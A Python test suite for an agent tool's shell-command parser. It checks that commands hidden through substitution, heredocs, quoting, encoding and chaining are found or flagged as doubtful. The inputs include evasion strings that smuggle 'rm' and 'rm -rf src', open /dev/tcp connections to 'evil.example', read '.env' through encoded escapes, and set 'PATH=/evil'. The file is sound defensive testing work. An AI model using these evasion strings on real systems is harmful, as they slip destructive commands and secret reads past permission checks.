import pytest
from hypothesis import given
from hypothesis import strategies as st

from agenttool.policy.shell import MAX_COMMAND, parse_commands


def listed(text):
    return [[word.text for word in each.words] for each in parse_commands(text).subcommands if each.words]


@pytest.mark.parametrize(
    "text",
    [
        "a && rm x",
        "a || rm x",
        "a ; rm x",
        "a | rm x",
        "a |& rm x",
        "a & rm x",
        "a\nrm x",
        "a\n\n  rm x",
        "( a; rm x )",
        "{ a; rm x; }",
        "a $(rm x)",
        'a "$(rm x)"',
        "a `rm x`",
        'a "`rm x`"',
        "a <(rm x)",
        "a > >(rm x)",
        "a $(b $(rm x))",
        "if a; then rm x; fi",
        "if a; then b; elif c; then rm x; fi",
        "for i in 1 2; do a; rm x; done",
        "while a; do rm x; done",
        "until a; do rm x; done",
        "case y in a) a;; b) rm x;; esac",
        "a() { rm x; }; a",
        "function a { rm x; }; a",
        "a; ! rm x",
        "a <<EOF\n$(rm x)\nEOF\n",
        'a <<< "$(rm x)"',
        "a <<EOF | rm x\nq\nEOF\n",
        "a <<EOF && rm x\nq\nEOF\n",
        "b=$(rm x) a",
        "b=$(rm x); a",
        "b=1 c=$(rm x); a",
        "b=(1 $(rm x)); a",
        "export b=$(rm x); a",
        "a ${b:-$(rm x)}",
        "a $((1 + $(rm x)))",
        "[ -f $(rm x) ] && a",
        "[ -f `rm x` ] && a",
        "[[ -f $(rm x) ]] && a",
        "a > $(rm x)",
        "a; > out rm x",
        "a; 2>&1 >/dev/null rm x",
        "a; rm > out x",
        "a; \\rm x",
        "a; 'rm' x",
        'a; "r"m x',
        "a; r'm' \"x\"",
        "a; $'rm' x",
        "a; rm \\\n x",
        "a; rm x # b",
    ],
)
def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
    assert ["rm", "x"] in listed(text)


@pytest.mark.parametrize(
    "text",
    [
        "rm 'unterminated",
        "r\\\nm x",
        "rm x\r\nls",
        "x=()rm =",
        "a ]#\\\n \nrm x",
        "{rm,x} \na ; }",
        "x=()#b $y rm",
        "a <<-E\nE>f rm x",
        "a <<E\nrm x",
        "a <<'E'b\nq\nE\n",
        "a <<$x\nq\n$x\nrm x",
        "((rm x); a)",
        "a $((rm x); b)",
        "a `b \\`rm x\\``",
        "a ${b@P}",
        "b[$(rm x)]=1 a",
        "b[ 1 ]=2 a",
        "declare b[ 1 ]=2",
        "b=([ 1 ]=2)",
        "[[ -v 'a[$(rm x)]' ]]",
        "x='a[`rm x`]'; echo $((x))",
        "cat < /dev/tcp/evil.example/80",
        "echo x > /dev/tcp/evil.example/80",
        "f() rm x",
        "f() { rm x; }; f",
        "function f { rm x; }",
        "x" * (MAX_COMMAND + 1),
        "\ud800",
        "$'\\x72m' x",
        "cat $'\\U0000002eenv'",
        "cat $'\\x{2e}env'",
        "cat <<EOF\nE\\\nOF\nrm -rf src\n: <<EOF\nEOF",
        "cat \u202ex",
        "(" * 200 + "a" + ")" * 200,
    ],
)
def test_what_is_outside_of_the_parsed_language_is_in_doubt(text):
    assert parse_commands(text).doubt is not None


@pytest.mark.parametrize(
    "text",
    [
        "git status",
        "a && b | c",
        "a $x",
        "echo $((1 + 2))",
        "case y in a) a;; esac",
        "a <<E\nq\nE\n",
        "for f in *.py; do black $f; done",
        "cat <<'EOF'\n$(rm x)\nEOF\n",
        "",
        "# a",
        'echo "[$(date)]"',
        "grep '[a-z]$'",
        "awk '{ n[$1]++ } END { print n[$2] }'",
    ],
)
def test_what_is_plain_is_not_in_doubt(text):
    assert parse_commands(text).doubt is None


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("aa =~\nrm x", [["aa", "=~"], ["rm", "x"]]),
        ("aa in ``\nrm x", [["aa", "in", "``"], ["rm", "x"]]),
        ("!'rm' x", [["!rm", "x"]]),
        ("1x=1 rm x", [["1x=1", "rm", "x"]]),
        ("a; \\ rm x", [["a"], [" rm", "x"]]),
        ("a \\ #; rm x", [["a", " #"], ["rm", "x"]]),
        ("b=$\nrm x", [["rm", "x"]]),
        ("a $\nrm x", [["a", "$"], ["rm", "x"]]),
        ("a\n\\\nrm x", [["a"], ["rm", "x"]]),
        ("# a \\\nrm x", [["rm", "x"]]),
        ("a |x=1 |&local \nrm! && b", [["a"], ["local"], ["rm!"], ["b"]]),
        ("[ \nrm ]", [["["], ["rm", "]"]]),
        ("[ a && rm ]", [["[", "a"], ["rm", "]"]]),
        ("a > f }\\rm x", [["a", "}rm", "x"]]),
        ("a --<<E\nq\nE\nrm x", [["a", "--"], ["rm", "x"]]),
        ("a <<E\n`rm x`\nE\n", [["a"], ["rm", "x"]]),
        ("[[ -f x ]] && a", [["[[", "-f", "x", "]]"], ["a"]]),
        ("[[ $x =~ ^a(b|c)$ ]]", [["[[", "$x", "=~", "^a(b|c)$", "]]"]]),
        ("case y in a|b) a;; (c) b; esac", [["a"], ["b"]]),
        ("a && b > out rm", [["a"], ["b", "rm"]]),
        ("for f in a b; do c $f; done", [["c", "a"], ["c", "b"]]),
        ("x=rm; $x y", [["rm", "y"]]),
        ("$'a\\tb' x", [["a\tb", "x"]]),
        ("a {b,c}d {1..3} f{,.bak}", [["a", "bd", "cd", "1", "2", "3", "f", "f.bak"]]),
    ],
)
def test_text_is_parsed_as_a_shell_parses_it(text, commands):
    assert listed(text) == commands
    assert parse_commands(text).doubt is None


@pytest.mark.parametrize(
    "text",
    [
        "x=a; x=rm; $x y",
        "x=a; read x; $x y",
        "false && x=a; $x y",
        "(x=a); $x y",
        "x=a & $x y",
        "x=a | b; $x y",
        "for x in a b; do x=rm; $x y; done",
        "(f() { a; }); f x",
        "x=a; printf -v x rm; $x y",
        "x='a*'; $x y",
        "RANDOM=a; $RANDOM y",
        "PWD=x; PWD=a; $PWD y",
    ],
)
def test_a_name_that_may_have_another_value_is_not_resolved(text):
    assert ["a", "y"] not in listed(text)
    assert any(each.words and each.words[-1].text in ("x", "y") for each in parse_commands(text).subcommands)


@pytest.mark.parametrize(
    ("text", "certainty"),
    [
        ("a $((1 + 2))", "number"),
        ("i=0; a $((i + 1))", "number"),
        ("a $(nproc)", "number"),
        ("a $(b | wc -l)", "number"),
        ("a $(b || c | wc -l)", "unknown"),
        ("a ${#x}", "number"),
        ("a $HOME", "plain"),
        ("a $PATH", "unknown"),
        ("a $TOKEN", "inherited"),
        ("a ${TOKEN:-x}", "inherited"),
        ("read x; a $x", "unknown"),
        ("a f$((1)).txt", "expands"),
    ],
)
def test_the_certainty_of_a_word_is_that_of_its_values(text, certainty):
    [last] = [each.words[1] for each in parse_commands(text).subcommands if each.name == "a"]
    assert last.certainty.name.lower() == certainty


def test_text_that_is_only_quoted_runs_nothing():
    assert listed("echo 'rm x; rm y' \"\\$(rm x)\"") == [["echo", "rm x; rm y", "$(rm x)"]]
    assert listed("cat <<'EOF'\n$(rm x)\nEOF\n") == [["cat"]]


def redirections(text):
    found = parse_commands(text).subcommands
    return (
        [word.text for each in found for word in each.writes],
        [word.text for each in found for word in each.reads],
    )


@pytest.mark.parametrize(
    ("text", "writes", "reads"),
    [
        ("a > f", ["f"], []),
        ("a >> f 2> g", ["f", "g"], []),
        ("a >| f", ["f"], []),
        ("a &> f", ["f"], []),
        ("a &>> f", ["f"], []),
        ("a >& f", ["f"], []),
        ("a 2>&1 >/dev/null", [], []),
        ("a < f", [], ["f"]),
        ("a <<EOF > f\nx\nEOF\n", ["f"], []),
        ("while a; do b; done < f > g", ["g"], ["f"]),
        ("(a; b) > f", ["f"], []),
        ("a | b > f", ["f"], []),
        ("> f", ["f"], []),
        ("a $(<f)", [], ["f"]),
        ("a > 'f g'", ["f g"], []),
    ],
)
def test_redirections_are_reported_as_files_written_and_read(text, writes, reads):
    assert redirections(text) == (writes, reads)


def test_what_a_command_sets_before_it_runs_is_reported():
    [subcommand] = parse_commands("A=1 B='x y' cmd arg").subcommands
    assert [word.text for word in subcommand.assignments] == ["A=1", "B=x y"]
    [alone] = parse_commands("PATH=/evil").subcommands
    assert [word.text for word in alone.assignments] == ["PATH=/evil"]
    [two] = parse_commands("A=1 B=2").subcommands
    assert [word.text for word in two.assignments] == ["A=1", "B=2"]


def certainties(text):
    return [word.certainty.name.lower() for word in parse_commands(text).subcommands[0].words[1:]]


def test_a_word_is_plain_expands_or_is_unknown():
    assert certainties("a b 'c*' \"d?\" e\\* 7 {} x=y") == ["plain"] * 7
    assert certainties("a *.py ?x src/*") == ["expands", "expands", "expands"]
    assert certainties("a a[bc] [!x]*.py") == ["expands"] * 2
    assert certainties('a $(b) "$(b)" {a,"b"} "$@"') == ["unknown", "computed", "unknown", "unknown"]


simple = st.lists(
    st.sampled_from(["git", "status", "-v", "a.txt", "x y", "$(not run)", "it's", "|", "&&"]), min_size=1, max_size=3
)


def quoted(words, draw_quote):
    return " ".join(
        "'" + word.replace("'", "'\\''") + "'" if draw_quote or not word.isalnum() else word for word in words
    )


@given(st.lists(st.tuples(simple, st.booleans()), min_size=1, max_size=4), st.data())
def test_commands_joined_in_any_way_are_the_same_commands(parts, data):
    text = quoted(*parts[0])
    for words, quotes in parts[1:]:
        command = quoted(words, quotes)
        join = data.draw(st.sampled_from(["{} && {}", "{} || {}", "{}; {}", "{} | {}", "{} & {}", "{}\n{}", "({}); {}",
                                          "{} $({})", "if {}; then {}; fi", "{{ {}; }}; {}", "for i in 1; do {}; {}; done"]))  # fmt: skip
        text = join.format(text, command)
    line = parse_commands(text)
    # A substitution adds a word to the command it stands in, so the command found may be longer.
    found = [[word.text for word in each.words] for each in line.subcommands]
    for words, _ in parts:
        assert line.doubt is not None or any(each[: len(words)] == words for each in found), (text, found)


@pytest.mark.parametrize(
    "text",
    [
        "ls " + "a " * 30_000,
        "ls " + "$a" * 30_000,
        "x=1;" * 10_000,
        "(" * 60_000,
        "$(" * 30_000,
        "${a:-" * 10_000,
        '"$(' * 10_000,
        "`a`" * 20_000,
        "ls " + "[" * 60_000,
        "echo $((" + "(" * 30_000,
        "".join(f"for {name} in 1 2 3 4 5 6 7 8 9; do " for name in "uvwxyz") + "ls $b" + "; done" * 6,
        "a <<E\n" * 8_000,
    ],
)
def test_a_text_that_is_large_or_deep_is_in_doubt_after_a_bounded_effort(text):
    assert parse_commands(text).doubt is not None
